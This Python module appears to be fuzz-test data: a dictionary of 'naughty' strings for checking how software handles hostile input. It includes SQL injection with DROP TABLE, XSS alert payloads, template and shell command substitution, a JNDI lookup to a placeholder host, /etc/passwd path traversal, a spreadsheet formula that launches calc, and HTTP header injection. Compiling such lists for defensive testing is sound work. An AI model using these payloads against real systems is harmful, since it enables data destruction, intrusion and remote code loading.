"""Texts that do harm to a careless reader: one list for each kind of reader."""

from __future__ import annotations

NAUGHTY: dict[str, list[str]] = {
    "SQL": [
        "'", "''", '"', "' OR '1'='1", "'; DROP TABLE user_events; --", "1; SELECT pg_sleep(9)--",
        "\\'; --", "%' AND 1=1 --", "_", "%", "%%", "?", ":name", "$1", "%(name)s", "/*", "--",
        "NULL",
        "') RETURNING id --", "$$;", "U&'\\0061'", "payload->>'a'", "{1,2}", "E'\\x00'",
    ],
    "markup": [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)",
        "</script><script>alert(1)//", "<svg/onload=alert(1)>", "javascript:alert(1)", "<!--",
        "]]>",
        "&lt;script&gt;", "&#x3c;b&#x3e;", "<style>*{}</style>", "<base href=//x.example>",
        "</td></tr>",
        "<a href=\"data:text/html,x\">", "<meta http-equiv=refresh content=0>", "<iframe>", "<x",
    ],
    "templates": [
        "{{ 7*7 }}", "{% raw %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config}}",
        "{0.__class__}", "{}",
        "{!r}", "$HOME", "`id`", "$(id)", "${jndi:ldap://x.example/a}", "${${::-j}ndi:x}",
        "@{x}", "[[x]]",
    ],
    "formats": ["%s", "%n%n%n", "%d", "%(x)s", "%", "{x!r:>10}", "%x%x%x", "\\x41", "\\u0041",
        "\\n", "\\"],
    "terminals": [
        "\x1b[31mred", "\x1b]0;title\x07", "\x1b[2J", "\x1bc", "\x9b31m", "\x07", "\x08\x08",
        "\r over",
        "a\nb", "a\r\nb", "\x0b", "\x0c", "\x7f", "\x1b[?1049h",
        "\x1b]8;;http://x.example\x1b\\", "\x85",
        "\x1b[6n", "\t", "\x01",
    ],
    "directions": [
        "\u202eevil", "\u202aa\u202c", "\u2066b\u2069", "\u200f", "\u061c", "שלום", "مرحبا",
        "a\u202eb.exe",
    ],
    "invisible": [
        "\u200b", "\u200d", "\ufeff", "\u2060", "\u00ad", "\u180e", "\u3164", "\U000e0041",
        "\u034f", " ",
        "\u00a0", "\u3000", "\u2028", "\u2029", "", "   ",
    ],
    "letters": [
        "é", "e\u0301", "Ω", "ﬁ", "ß", "İ", "\u0131", "Å", "\u212b", "日本語", "\U0001d54f",
        "Z\u0351\u0361\u0489" * 5,
        "\ufdfa", "\uffff", "\U0010ffff", "\ue000", "\u0378", "ǅ", "٣", "½",
    ],
    "emoji": ["\N{OWL}", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇩🇪", "👍🏽", "1️⃣", "☺", "❤️"],
    "paths": [
        "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "%2e%2e%2f",
        "file:///etc/passwd", "C:\\",
        "\\\\x.example\\a", "~root", ".", "..", "a/b", "con", "nul", "a.csv", "-rf", "--force",
        "|id",
    ],
    "formulas": [
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=cmd|' /C calc'!A0", "\uff1d1+1",
        '=HYPERLINK("http://x.example")', "'=1", " =1", ";=1", ",=1", '"=1', "\uff0b1", "\uff0d1",
    ],
    "names": [
        "__proto__", "constructor", "__class__", "toString", "hasOwnProperty", "$where", "$gt",
        "id", "null",
        "undefined", "true", "NaN", "Infinity", "None", "0", "-0", "1e400", "[object Object]",
        "event", "error",
    ],
    "headers": ["a\r\nSet-Cookie: x=1", "%0d%0aX: y", "\u560d\u560a", "x; path=/", "\r\n\r\n<b>"],
    "documents": ['{"a":1}', "[1]", '"quoted"', "<?xml version='1.0'?>", "a,b;c", "a\tb",
        "---\n- x", "//", "#"],
    "long": ["a" * 3000, "\N{OWL}" * 800, "word " * 400, "\u0301" * 500,
        "<" * 1000, "'" * 1000, "9" * 400],
}  # fmt: skip

TEXTS = [text for texts in NAUGHTY.values() for text in texts]
